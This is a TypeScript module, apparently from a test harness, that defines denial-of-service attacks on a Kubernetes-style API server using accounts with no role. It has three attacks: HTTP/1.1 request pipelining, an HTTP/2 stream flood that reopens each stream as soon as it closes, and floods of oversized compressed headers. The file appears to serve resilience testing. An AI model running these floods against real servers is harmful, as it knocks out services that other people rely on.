/** Small requests, faster than a server can handle them, from accounts without a role. */
import { once } from "node:events";
import { connect as connectHttp2 } from "node:http2";
import type { ClientHttp2Session } from "node:http2";
import { connect as connectTls } from "node:tls";
import { setTimeout as sleep } from "node:timers/promises";
import { inLoops } from "../attack.ts";
import type { Account, Attack, AttackTarget } from "../attack.ts";

const pipelines = 20;
const sessions = 60;
const streamsPerSession = 240;
const againMs = 500;
const longHeaderChars = 30_000;

export const attacks: readonly Attack[] = [
  {
    // The next requests are sent before the first one is answered.
    name: "pipelined-requests",
    run: (target, signal) =>
      inLoops(pipelines, signal, (loop) => pipeline(target, accountOf(target, loop), signal)),
  },
  {
    name: "stream-flood",
    run: (target, signal) => flood(target, signal, {}),
  },
  {
    // Compressed, each takes a few bytes on the way.
    name: "long-headers",
    run: (target, signal) => flood(target, signal, { "x-long": "x".repeat(longHeaderChars) }),
  },
];

function accountOf({ strangers }: AttackTarget, at: number): Account {
  const account = strangers[at % strangers.length];
  if (account === undefined) throw new Error("the attacker has no account");
  return account;
}

function pathOf({ namespace }: AttackTarget): string {
  return `/api/v1/namespaces/${namespace}/configmaps/none`;
}

/** Ends when the server closes the connection. */
async function pipeline(
  target: AttackTarget,
  { token }: Account,
  signal: AbortSignal,
): Promise<void> {
  const { host, port, ca } = target;
  const socket = connectTls({ host, port, ca, ALPNProtocols: ["http/1.1"] });
  const closed = once(socket, "close");
  socket.on("error", () => undefined); // The server may refuse the client.
  const end = (): void => void socket.destroy();
  signal.addEventListener("abort", end, { once: true });
  socket.resume();
  await once(socket, "secureConnect");
  const head = [
    `GET ${pathOf(target)} HTTP/1.1`,
    `host: ${host}`,
    `authorization: Bearer ${token}`,
  ];
  const requests = Buffer.from(`${head.join("\r\n")}\r\n\r\n`.repeat(500));
  const send = (): void => {
    while (!socket.destroyed && socket.write(requests));
  };
  socket.on("drain", send);
  send();
  await closed;
  signal.removeEventListener("abort", end);
}

async function flood(
  target: AttackTarget,
  signal: AbortSignal,
  headers: Readonly<Record<string, string>>,
): Promise<void> {
  const open = Array.from({ length: sessions }, (_, at) => {
    const { token } = accountOf(target, at);
    return sessionOf(target, { ...headers, authorization: `Bearer ${token}` });
  });
  while (!signal.aborted) await sleep(againMs);
  for (const session of open) session.destroy();
}

/** A request that has ended is sent again. */
function sessionOf(
  target: AttackTarget,
  headers: Readonly<Record<string, string>>,
): ClientHttp2Session {
  const { host, port, ca } = target;
  const session = connectHttp2(`https://${host}:${port}`, { ca });
  session.setMaxListeners(0);
  session.on("error", () => undefined); // The server may close the connection.
  const ask = (): void => {
    if (session.destroyed || session.closed) return;
    const stream = session.request({ ":path": pathOf(target), ...headers });
    stream.on("error", () => undefined);
    stream.once("close", () => setImmediate(ask));
    stream.resume();
  };
  session.once("connect", () => {
    for (let at = 0; at < streamsPerSession; at++) ask();
  });
  return session;
}
